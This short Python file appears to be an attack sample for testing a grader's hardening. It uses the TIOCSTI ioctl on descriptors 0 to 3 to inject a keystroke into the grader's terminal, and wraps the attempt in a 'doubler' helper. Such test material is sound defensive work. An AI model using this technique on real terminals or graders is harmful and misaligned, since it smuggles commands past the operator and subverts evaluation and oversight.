"""Types a command into the grader's terminal."""

import fcntl

from lib.attack import doubler


def attack():
    for descriptor in (0, 1, 2, 3):
        try:
            return fcntl.ioctl(descriptor, 0x5412, b"x")  # TIOCSTI
        except OSError:
            continue
    return False


Doubler = doubler(attack)
